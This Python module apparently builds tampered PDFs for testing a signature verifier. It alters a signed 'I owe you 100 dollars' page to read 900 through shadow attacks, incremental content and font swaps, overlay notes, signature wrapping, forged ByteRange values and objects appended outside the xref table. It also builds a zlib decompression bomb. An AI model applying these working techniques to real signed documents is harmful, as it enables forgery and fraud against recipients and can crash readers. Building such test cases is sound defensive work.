"""What is done to a signed file so that it says something else, or breaks whoever reads it."""

import re
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")
NAME = generic.NameObject


def plain_pdf(text: str = "I owe you 100 dollars", *, with_form: bool = False) -> bytes:
    """One page with a sentence; ``with_form`` has a box to type in."""
    made = BytesIO()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(300, 200))
        page.Contents = pdf.make_stream(f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET".encode())
        font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=pdf.make_indirect(font)))
        if with_form:
            look = pdf.make_stream(b"q Q", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 100, 20])
            box = pdf.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="amount", V="100",
                    Rect=[20, 20, 120, 40], F=4, AP=pikepdf.Dictionary(N=look), P=page.obj,
                )
            )  # fmt: skip
            page.Annots = pdf.make_indirect(pikepdf.Array([box]))
            pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array([box])))
        pdf.save(made, deterministic_id=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return made.getvalue()


def range_of(raw: bytes) -> list[int]:
    found = RANGE.search(raw)
    assert found
    return [int(each) for each in found[1].split()]


def with_range(raw: bytes, *numbers: int) -> bytes:
    """Other numbers in the same place, padded, so that nothing else moves."""
    found = RANGE.search(raw)
    assert found
    said = " ".join(map(str, numbers)).encode()
    return raw[: found.start(1)] + said.ljust(len(found[1]))[: len(found[1])] + raw[found.end(1) :]


def renamed(raw: bytes, key: bytes, other: bytes) -> bytes:
    """A key of the signature's dictionary by another name of the same length: as good as gone."""
    where = raw.index(key, max(0, raw.index(b"/ByteRange") - 60_000))
    return raw[:where] + other + raw[where + len(key) :]


def with_contents(raw: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The signature's own bytes changed, padded as they were."""
    _start, first, second, _rest = range_of(raw)
    had = bytes.fromhex(raw[first + 1 : second - 1].decode())
    return (
        raw[: first + 1]
        + change(had).hex().encode().ljust(second - first - 2, b"0")[: second - first - 2]
        + raw[second - 1 :]
    )


def added(raw: bytes, change: Callable[[Any], None]) -> bytes:
    """A further state of the file, as an editor saves it."""
    writer, made = IncrementalPdfFileWriter(BytesIO(raw)), BytesIO()
    change(writer)
    writer.write(made)
    return made.getvalue()


def page_of(writer: Any) -> Any:
    return writer.root["/Pages"]["/Kids"][0]


def add_page(writer: Any) -> None:
    pages = writer.root["/Pages"]
    content = writer.add_object(generic.StreamObject(stream_data=b"BT ET"))
    page = generic.DictionaryObject(
        {
            NAME("/Type"): NAME("/Page"),
            NAME("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 300, 200))),
            NAME("/Contents"): content,
            NAME("/Parent"): writer.root.raw_get("/Pages"),
        }
    )
    pages["/Kids"].append(writer.add_object(page))
    pages[NAME("/Count")] = generic.NumberObject(2)
    writer.update_container(pages)


def other_text(writer: Any) -> None:
    page = page_of(writer)
    page[NAME("/Contents")] = writer.add_object(
        generic.StreamObject(stream_data=b"BT /F1 12 Tf 20 100 Td (I owe you 900 dollars) Tj ET")
    )
    writer.update_container(page)


def text_in_place(writer: Any) -> None:
    """The stream itself anew, under its old number."""
    stream = page_of(writer)["/Contents"]
    stream._data, stream._encoded_data = b"BT /F1 12 Tf 20 100 Td (I owe you 900 dollars) Tj ET", None
    writer.update_container(stream)


def cover_with_note(writer: Any) -> None:
    """A note over the text, which says something else."""
    page = page_of(writer)
    note = generic.DictionaryObject(
        {
            NAME("/Type"): NAME("/Annot"),
            NAME("/Subtype"): NAME("/FreeText"),
            NAME("/Rect"): generic.ArrayObject(map(generic.NumberObject, (20, 95, 200, 115))),
            NAME("/Contents"): generic.TextStringObject("I owe you 900 dollars"),
            NAME("/F"): generic.NumberObject(4),
        }
    )
    had = list(page["/Annots"]) if "/Annots" in page else []
    page[NAME("/Annots")] = generic.ArrayObject([*had, writer.add_object(note)])
    writer.update_container(page)


def fill_in(writer: Any) -> None:
    """The box says 900 now, and shows it."""
    box = next(
        each.get_object() for each in writer.root["/AcroForm"]["/Fields"] if each.get_object().get("/T") == "amount"
    )
    box[NAME("/V")] = generic.TextStringObject("900")
    look = generic.StreamObject(
        {
            NAME("/Type"): NAME("/XObject"),
            NAME("/Subtype"): NAME("/Form"),
            NAME("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 100, 20))),
        },
        stream_data=b"BT ET",
    )
    box[NAME("/AP")] = generic.DictionaryObject({NAME("/N"): writer.add_object(look)})
    writer.update_container(box)


def other_font(writer: Any) -> None:
    """The same letters by a font that draws them otherwise: what was signed stays, what is seen does not (shadow, replace)."""
    font = page_of(writer)["/Resources"]["/Font"]["/F1"]
    font[NAME("/BaseFont")] = NAME("/Symbol")
    writer.update_container(font)


def other_root(writer: Any) -> None:
    """A whole other document that lay hidden in the file is the document now (shadow, hide and replace)."""
    other = generic.DictionaryObject(dict(writer.root))
    hidden = generic.DictionaryObject(dict(writer.root["/Pages"]))
    page = generic.DictionaryObject(dict(page_of(writer)))
    page[NAME("/Contents")] = writer.add_object(generic.StreamObject(stream_data=b"BT (900) Tj ET"))
    hidden[NAME("/Kids")] = generic.ArrayObject([writer.add_object(page)])
    other[NAME("/Pages")] = writer.add_object(hidden)
    writer._root = writer.add_object(other)
    writer.trailer[NAME("/Root")] = writer._root if hasattr(writer, "trailer") else writer._root


def uncovered(writer: Any) -> None:
    """What covered the true text is taken away (shadow, hide)."""
    page = page_of(writer)
    page[NAME("/Annots")] = generic.ArrayObject([])
    writer.update_container(page)


def wrapped(raw: bytes) -> bytes:
    """The signature's dictionary anew in a later state, while its range still speaks of the first (SWA)."""

    def again(writer: Any) -> None:
        text_in_place(writer)
        field = next(each.get_object() for each in writer.root["/AcroForm"]["/Fields"] if "/V" in each.get_object())
        had = field["/V"]
        _start, first, second, _rest = range_of(raw)
        same = generic.DictionaryObject(
            {key: had.raw_get(key) for key in had if key not in ("/Contents", "/ByteRange")}
        )
        digits = bytes.fromhex(raw[first + 1 : second - 1].decode())
        same[NAME("/Contents")] = generic.ByteStringObject(digits)
        same[NAME("/ByteRange")] = generic.ArrayObject(map(generic.NumberObject, range_of(raw)))
        field[NAME("/V")] = writer.add_object(same)
        writer.update_container(field)

    return added(raw, again)


def without_xref(raw: bytes) -> bytes:
    """Another text at the end that stands in no table: a reader that mends broken files takes it."""
    number = PdfFileReader(BytesIO(raw)).root["/Pages"]["/Kids"][0].raw_get("/Contents").reference.idnum
    text = b"BT /F1 12 Tf 20 100 Td (I owe you 900 dollars) Tj ET"
    body = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, len(text), text)
    return raw + body + raw[raw.rindex(b"startxref") :]


def many_states(raw: bytes, number: int) -> bytes:
    def one_more(number: int) -> Callable[[Any], Any]:
        return lambda writer: writer.add_object(generic.NumberObject(number))

    for each in range(number):
        raw = added(raw, one_more(each))
    return raw


def bomb() -> bytes:
    """Where the table of objects should be stands a stream that unfolds to gigabytes."""
    packer = zlib.compressobj(9)
    first, again = (packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH) for _twice in range(2))
    packed = first + 4_000 * again
    head = b"%PDF-1.7\n"
    body = b"1 0 obj\n<< /Type /XRef /Size 2 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        packed
    )
    return head + body + packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)
